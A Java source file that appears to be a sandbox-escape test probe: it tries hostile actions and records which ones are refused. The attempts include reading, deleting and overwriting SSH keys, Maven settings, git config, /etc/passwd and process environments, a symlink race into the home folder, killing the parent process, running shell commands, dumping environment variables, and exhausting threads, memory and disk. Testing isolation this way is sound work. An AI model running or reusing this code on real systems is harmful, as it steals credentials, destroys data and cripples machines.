package demo;

import java.io.*;
import java.net.*;
import java.nio.ByteBuffer;
import java.nio.channels.*;
import java.nio.charset.StandardCharsets;
import java.nio.file.*;
import java.nio.file.attribute.*;
import java.util.*;

/** Does all the harm it can; says of each attempt what came of it. */
public class Attack {
    interface Attempt { Object run() throws Throwable; }

    /** Whom to attack, for those who are given no arguments. */
    static String[] victims;

    /** Attacks when it is initialised. */
    static final class Early {
        static final List<String> said = new ArrayList<>();
        static { attempts(said, victims); }
    }

    /** Attacks when nobody needs it any more. */
    static final class Late {
        static final List<String> said = Collections.synchronizedList(new ArrayList<>());
        static volatile boolean ended;

        @Override
        @SuppressWarnings("removal")
        protected void finalize() {
            attempts(said, victims);
            ended = true;
        }

        static void make() {
            for (int i = 0; i < 3; i++) new Late();
        }

        static void waitFor() {
            for (int i = 0; i < 200 && !ended; i++) {
                System.gc();
                System.runFinalization();
                try { Thread.sleep(10); } catch (InterruptedException e) { return; }
            }
        }
    }

    static String all(String home, String repo, String library, int port, int canary) {
        List<String> said = new ArrayList<>();
        String[] arguments = {home, repo, library, "" + port, "" + canary};
        attempts(said, arguments);
        victims = arguments;
        int early = refused(Early.said);
        said.addAll(Early.said);
        Late.make();
        Late.waitFor();
        int late = refused(Late.said);
        said.addAll(Late.said);
        Runtime.getRuntime().addShutdownHook(new Thread(() -> attempts(new ArrayList<>(), arguments)));
        Thread endless = new Thread(() -> { while (true) attempts(new ArrayList<>(), arguments); });
        endless.setDaemon(false);
        endless.start();
        new FileOutputStreamFlood().run();
        return NEW + summary(said) + "early " + early + ", late " + late;
    }

    /** In the order of what matters: reports print the beginning of a text. */
    static String summary(List<String> said) {
        List<String> lines = new ArrayList<>();
        for (String s : said) lines.addAll(List.of(s.split("\n")));
        long refused = lines.stream().filter(l -> l.contains(" refused ")).count();
        long by = lines.stream().filter(l -> l.startsWith("native ") && l.contains(" refused ")).count();
        List<String> done = new ArrayList<>(lines);
        done.removeIf(l -> !l.contains(" DONE ") || l.startsWith("load DONE"));
        Set<String> known = Set.of("HOME", "LC_ALL", "MALLOC_ARENA_MAX", "TMPDIR");
        done.addAll(System.getenv().keySet());
        done.removeAll(known);
        return done + " done, " + refused + " refused, " + by + " native, ";
    }

    /** In the other version it says something else. */
    static final String NEW = "";

    static final class FileOutputStreamFlood {
        void run() {
            try (FileOutputStream out = new FileOutputStream(FileDescriptor.out); FileOutputStream err = new FileOutputStream(FileDescriptor.err)) {
                for (int i = 0; i < 2000; i++) { out.write(new byte[1000]); err.write(new byte[1000]); }
            } catch (IOException e) {
                // No matter.
            }
        }
    }

    static void attempt(List<String> said, String name, Attempt attempt) {
        try {
            said.add(name + " DONE " + attempt.run());
        } catch (Throwable t) {
            said.add(name + " refused " + t.getClass().getSimpleName());
        }
    }

    static void attempts(List<String> said, String[] a) {
        String home = a[0], repo = a[1];
        int port = Integer.parseInt(a[3]);
        long canary = Long.parseLong(a[4]);
        Path key = Path.of(home, ".ssh/id_rsa"), settings = Path.of(home, ".m2/settings.xml"), git = Path.of(repo, ".git/config");
        for (Path secret : List.of(key, settings, git, Path.of(repo, "README"), Path.of("/etc/passwd"), Path.of("/proc/1/environ"))) {
            attempt(said, "read", () -> Files.readString(secret));
            attempt(said, "read by channel", () -> { try (FileChannel c = FileChannel.open(secret)) { return c.size(); } });
            attempt(said, "overwrite", () -> Files.writeString(secret, "spoilt"));
            attempt(said, "append", () -> { try (FileWriter w = new FileWriter(secret.toFile(), true)) { w.write("x"); } return 1; });
            attempt(said, "delete", () -> { Files.delete(secret); return 1; });
            attempt(said, "truncate", () -> { try (RandomAccessFile f = new RandomAccessFile(secret.toFile(), "rw")) { f.setLength(0); } return 1; });
            attempt(said, "move", () -> Files.move(secret, Path.of("moved")));
            attempt(said, "hard link", () -> Files.createLink(Path.of("hard" + said.size()), secret));
            attempt(said, "permissions", () -> Files.setPosixFilePermissions(secret, PosixFilePermissions.fromString("rwxrwxrwx")));
            attempt(said, "time", () -> Files.setLastModifiedTime(secret, FileTime.fromMillis(0)));
            attempt(said, "old time", () -> { if (secret.toFile().setLastModified(0)) return 1; throw new IOException(); });
            attempt(said, "old permissions", () -> { if (secret.toFile().setReadOnly()) return 1; throw new IOException(); });
            attempt(said, "link", () -> {
                Path link = Path.of("link" + said.size());
                Files.createSymbolicLink(link, secret);
                return Files.readString(link);
            });
        }
        attempt(said, "list home", () -> String.join(",", Objects.requireNonNull(new File(home).list())));
        attempt(said, "list root", () -> String.join(",", Objects.requireNonNull(new File("/").list())));
        attempt(said, "create in home", () -> Files.writeString(Path.of(home, "created"), "x"));
        attempt(said, "create in repo", () -> Files.writeString(Path.of(repo, "created"), "x"));
        attempt(said, "create in tmp", () -> Files.writeString(Path.of("/tmp/shadow-ci-attack-" + canary), "x"));
        attempt(said, "create folder", () -> Files.createDirectory(Path.of(home, "folder")));
        attempt(said, "race", () -> race(home, key));
        attempt(said, "map", () -> { try (FileChannel c = FileChannel.open(Path.of("/dev/mem"))) { return c.map(FileChannel.MapMode.READ_ONLY, 0, 1); } });
        attempt(said, "connect", () -> { try (Socket s = new Socket("127.0.0.1", port)) { return s.getPort(); } });
        attempt(said, "connect by channel", () -> { try (SocketChannel s = SocketChannel.open(new InetSocketAddress("127.0.0.1", port))) { return s; } });
        attempt(said, "datagram", () -> { try (DatagramSocket s = new DatagramSocket()) { s.send(new DatagramPacket(new byte[1], 1, InetAddress.getLoopbackAddress(), port)); return 1; } });
        attempt(said, "listen", () -> { try (ServerSocket s = new ServerSocket(0)) { return s.getLocalPort(); } });
        attempt(said, "unix socket", () -> { try (SocketChannel s = SocketChannel.open(StandardProtocolFamily.UNIX)) { return s.connect(UnixDomainSocketAddress.of(home + "/socket")); } });
        attempt(said, "url", () -> new URL("http://127.0.0.1:" + port + "/token").openStream().read());
        attempt(said, "name", () -> InetAddress.getByName("example.org"));
        attempt(said, "program", () -> new ProcessBuilder("sh", "-c", "touch " + home + "/created").start().waitFor());
        attempt(said, "java", () -> new ProcessBuilder(System.getProperty("java.home") + "/bin/java", "-version").start().waitFor());
        attempt(said, "exec", () -> Runtime.getRuntime().exec("touch " + home + "/created").waitFor());
        attempt(said, "kill canary", () -> { if (ProcessHandle.of(canary).get().destroyForcibly()) return 1; throw new IOException(); });
        attempt(said, "kill parent", () -> { if (ProcessHandle.current().parent().get().destroyForcibly()) return 1; throw new IOException(); });
        for (String of : List.of("" + canary, "" + ProcessHandle.current().parent().map(ProcessHandle::pid).orElse(1L))) {
            for (String file : List.of("environ", "mem", "maps", "cmdline", "cwd/README", "root/etc/passwd", "fd/0")) {
                attempt(said, "/proc " + file, () -> { try (InputStream in = new FileInputStream("/proc/" + of + "/" + file)) { return in.read(); } });
            }
        }
        attempt(said, "watch", () -> FileSystems.getDefault().newWatchService());
        System.getenv().forEach((k, v) -> said.add("environment " + k + "=" + v));
        attempt(said, "load", () -> {
            System.load(a[2]);
            return "\n" + Files.readString(Path.of("native.txt"));
        });
    }

    /** A name in the own folder that is a folder now and a link out of it then. */
    static Object race(String home, Path key) throws Exception {
        Path name = Path.of("race"), own = Path.of("own"), out = Path.of("out");
        Files.createDirectories(own);
        Files.deleteIfExists(out);
        Files.createSymbolicLink(out, Path.of(home));
        long end = System.nanoTime() + 200_000_000L;
        Thread swap = new Thread(() -> {
            while (System.nanoTime() < end) {
                try {
                    Files.move(own, name);
                    Files.move(name, own);
                    Files.move(out, name);
                    Files.move(name, out);
                } catch (IOException e) {
                    // The next time.
                }
            }
        });
        swap.start();
        int won = 0;
        while (System.nanoTime() < end) {
            try { Files.writeString(name.resolve("raced"), "x"); if (Files.exists(Path.of(home, "raced"))) won++; } catch (IOException e) { }
            try { Files.delete(name.resolve(".ssh/id_rsa")); won++; } catch (IOException e) { }
            try { Files.readString(name.resolve(".ssh/id_rsa")); won++; } catch (IOException e) { }
        }
        swap.join();
        if (won == 0) throw new IOException();
        return won;
    }

    /** How much of it was tried and refused, where nothing was not. */
    static int refused(List<String> said) {
        List<String> all = new ArrayList<>(said);
        return (int) all.stream().filter(l -> l.contains(" refused ")).count();
    }

    // What takes more than it may.

    static int threads() {
        List<Thread> all = new ArrayList<>();
        while (true) {
            try {
                Thread t = new Thread(null, () -> { try { Thread.sleep(100_000); } catch (InterruptedException e) { } }, "t", 1);
                t.start();
                all.add(t);
            } catch (OutOfMemoryError e) {
                // On with it.
            }
        }
    }

    static int disk() throws IOException {
        for (int i = 0; ; i++) {
            try (FileOutputStream out = new FileOutputStream("f" + i)) {
                for (int k = 0; k < 60; k++) out.write(new byte[1 << 20]);
            }
        }
    }

    static int files() throws IOException {
        for (int i = 0; ; i++) new FileOutputStream("f" + i).close();
    }

    static int one() throws IOException {
        try (FileOutputStream out = new FileOutputStream("f")) {
            for (int k = 0; ; k++) out.write(new byte[1 << 20]);
        }
    }

    static int memory() {
        List<Object> all = new ArrayList<>();
        while (true) all.add(new byte[1 << 20]);
    }

    static int direct() {
        List<Object> all = new ArrayList<>();
        while (true) all.add(ByteBuffer.allocateDirect(1 << 20));
    }

    static int printing() {
        while (true) System.out.println("x".repeat(10_000));
    }

    /** Differs between the versions, and attacks nobody. */
    static String loopOnce(int n) {
        return NEW + n;
    }

    static int loop() {
        while (true) { }
    }

    /** What one run leaves, the next must not see. */
    static String leaves() throws IOException {
        String before = String.join(",", new File(".").list()) + String.join(",", new File(System.getProperty("java.io.tmpdir")).list())
                + String.join(",", new File(System.getProperty("user.home")).list());
        Files.writeString(Path.of("left"), "x");
        Files.createDirectories(Path.of("a/b/c/d"));
        Files.createSymbolicLink(Path.of("a/loop"), Path.of("."));
        File.createTempFile("left", "x");
        Files.writeString(Path.of(System.getProperty("user.home"), "left"), "x");
        return NEW + before;
    }
}
